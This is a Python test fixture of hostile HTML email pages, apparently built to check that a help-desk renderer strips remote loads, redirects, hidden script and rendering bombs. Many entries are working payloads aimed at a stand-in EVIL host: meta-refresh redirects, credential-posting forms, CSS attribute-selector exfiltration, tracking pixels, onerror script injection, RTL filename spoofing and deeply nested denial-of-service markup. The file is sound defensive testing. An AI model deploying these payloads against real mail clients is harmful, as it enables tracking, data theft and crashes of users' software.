"""HTML that fetches, leads away, hides, stalls, or leaves its place, without a script."""

from dataclasses import dataclass

from tests.desk.hostile.marks import EVIL, PIXEL


@dataclass(frozen=True, slots=True)
class Page:
    """HTML, and how many pictures from elsewhere it asks for."""

    html: str
    remote: int = 0
    quoted: bool = False


_NEW = "<p>kept</p>"

PAGES: dict[str, Page] = {
    "a refresh": Page(f'{_NEW}<meta http-equiv=refresh content="0;url=https://{EVIL}/refresh">'),
    "a refresh to a script": Page(
        f'{_NEW}<meta http-equiv="refresh" content="0;javascript:top.postMessage(1)">'
        '<meta http-equiv=Content-Security-Policy content="default-src *">'
    ),
    "another base": Page(f'<base href="https://{EVIL}/" target=_top>{_NEW}<img src=rel.png>'),
    "a form": Page(
        f'{_NEW}<form action="https://{EVIL}/form"><input name=q autofocus value=secret>'
        "<button>Sign in</button></form><input form=x formaction=//evil.example type=submit>"
    ),
    "style sheets from elsewhere": Page(
        f"{_NEW}<link rel=stylesheet href=https://{EVIL}/a.css><style>@import '//{EVIL}/b.css';"
        f"@import url(https://{EVIL}/c.css);@font-face{{font-family:x;src:url(//{EVIL}/f)}}</style>"
        f"<link rel=preload as=image href=https://{EVIL}/p><link rel=dns-prefetch href=//{EVIL}>"
        f"<link rel=prefetch href=https://{EVIL}/q><link rel=icon href=https://{EVIL}/i>",
        remote=2,
    ),
    "a style that tells what is written": Page(
        f"{_NEW}<style>input[value^=a]{{background:url(https://{EVIL}/a)}}"
        f"p:has(b){{background-image:url('//{EVIL}/b')}}</style><input value=abc>",
        remote=2,
    ),
    "a style that was never closed": Page(f"{_NEW}<style>p{{background:url(//{EVIL}/u", remote=1),
    "a style in an attribute": Page(
        f"<p style=\"background:url('https://{EVIL}/1');list-style:url(//{EVIL}/2);cursor:"
        f'url( https://{EVIL}/3 ),auto;content:url(//{EVIL}/4)">kept</p>',
        remote=4,
    ),
    "a style with escapes": Page(
        f'<p style="background:\\75 rl(https://{EVIL}/1);background:u\\72l(//{EVIL}/2);'
        f"b\\61 ckground:image-set('https://{EVIL}/3' 1x);--x:url(//{EVIL}/4)/**/\">kept</p>",
        remote=1,
    ),
    "a tracking pixel": Page(
        f"{_NEW}<img src='https://{EVIL}/open?id=1' width=1 height=1>"
        f"<img src='https://{EVIL}/open?id=2' style='display:none'>"
        f"<img src=//{EVIL}/open?id=3 height=0>",
        remote=3,
    ),
    "pictures from elsewhere": Page(
        f"{_NEW}<img src=https://{EVIL}/a.png alt=offer><img src='HTTP://{EVIL}/b.png'>"
        f"<img src='\n//{EVIL}/c.png'><img src='\\\\{EVIL}/d.png'><img src='ht\ntps://{EVIL}/e'>",
        remote=5,
    ),
    "pictures in other attributes": Page(
        f"{_NEW}<img srcset='//{EVIL}/1.png 1x, https://{EVIL}/2.png 2x'>"
        f"<table background=https://{EVIL}/3.png><tr><td background=//{EVIL}/4.png>x</table>"
        f"<video poster=https://{EVIL}/5.png></video><input type=image src=https://{EVIL}/6.png>"
        f"<picture><source srcset=https://{EVIL}/7.webp><img src=https://{EVIL}/7.png></picture>"
        f"<img lowsrc=https://{EVIL}/8.png dynsrc=https://{EVIL}/8.avi>",
        remote=7,
    ),
    "pictures inside": Page(
        f"{_NEW}<img src='{PIXEL}' alt=dot><img src=cid:logo@shop><img src='cid:none'>"
        "<img src='data:image/svg+xml;base64,PHN2Zy8+'><img src='data:text/html,x'>"
    ),
    "sounds and films": Page(
        f"{_NEW}<audio autoplay src=https://{EVIL}/a.mp3></audio><video autoplay src=//{EVIL}/v>"
        f"<track src=//{EVIL}/t></video><bgsound src=https://{EVIL}/b.wav>"
        f"<embed src=https://{EVIL}/e><object data=https://{EVIL}/o></object>"
        f"<iframe src=https://{EVIL}/f></iframe><frame src=https://{EVIL}/g>",
        remote=1,
    ),
    "links that ping": Page(
        f"{_NEW}<a href=https://shop.example ping=https://{EVIL}/ping attributionsrc=//{EVIL}>x</a>"
        f"<a href=//{EVIL}/relative>y</a><a href=/desk/settings>z</a><a href='\\\\{EVIL}'>w</a>"
    ),
    "over the whole page": Page(
        '<div style="position:fixed;inset:0;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;'
        'background:#fff;transform:scale(9);margin:-9999px;opacity:.01">kept'
        "<style>html,body{position:fixed;inset:-999px}*{display:none!important}</style></div>"
    ),
    "huge": Page(
        '<p style="font-size:99999999px;width:1e9px;height:99999999%;line-height:99999999">kept</p>'
        "<table width=99999999 height=99999999 cellpadding=99999999><td colspan=99999999"
        " rowspan=99999999>x</table><img width=99999999 height=99999999 alt=x><hr size=99999999>"
    ),
    "nested deep": Page("kept" + "<div>" * 100_000),
    "tables in tables": Page("kept" + "<table><tr><td>" * 30_000),
    "a table of many cells": Page("kept<table>" + "<tr>" + "<td>x" * 14_000),
    "five megabytes in a line": Page("kept " + "<b>x</b>y" * 600_000),
    "formatting without end": Page("kept" + "<b><i><a href=x>" * 30_000),
    "attributes without end": Page(
        "<p>kept</p><a " + " ".join(f"a{n}=1" for n in range(40_000)) + ">"
    ),
    "turned round": Page(
        "<p>kept</p><bdo dir=rtl>gpj.exe</bdo><p>invoice\u202efdp.exe &#x202e;fdp &#8237;x</p>"
        '<a href="https://shop.example" title="\u202egpj">x</a>'
        '<p style="unicode-bidi:bidi-override;direction:rtl">x</p>'
    ),
    "unseen": Page("<p>ke\u00adpt</p>kept\u200b\u200d\u2060\ufeff\0\x01\x1b[31m\x7f\u2028\ufffe"),
    "heaps of marks": Page("<p>kept</p>Z" + "\u0337\u0322\u0327\u031b" * 400),
    "flags": Page(
        "<p>kept</p>🇮🇹🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f👨‍👩‍👧‍👦👍🏽"
    ),
    "a quote of Gmail": Page(
        "<div>kept</div><div class=gmail_quote>On Monday, Ann wrote:<blockquote>old"
        f"<img src=x onerror=top.postMessage('ran','*')><img src=https://{EVIL}/q></blockquote></div>",
        remote=1,
        quoted=True,
    ),
    "a quote of Outlook": Page(
        "<div class=WordSection1><p>kept</p><div><div style='border:none;border-top:solid #E1E1E1"
        " 1.0pt;padding:3.0pt 0cm 0cm 0cm'><p><b>From:</b> Ann &lt;a@b.example&gt;<br><b>Sent:</b>"
        " Monday<br><b>To:</b> shop<br><b>Subject:</b> x</p></div></div><p>old</p></div>",
        quoted=True,
    ),
    "a quote of Thunderbird": Page(
        "<p>kept</p><div class=moz-cite-prefix>On Monday Ann wrote:<br></div>"
        "<blockquote type=cite cite=mid:1@b.example><p>old</p></blockquote>",
        quoted=True,
    ),
    "quotes in quotes": Page("kept" + "<blockquote type=cite>" * 150 + "old", quoted=True),
    "a quote and nothing else": Page("<blockquote type=cite>kept</blockquote>", quoted=True),
    "folds of its own": Page(
        "<details class=quoted><summary>kept</summary><details open ontoggle=x>y</details></details>",
        quoted=True,
    ),
}
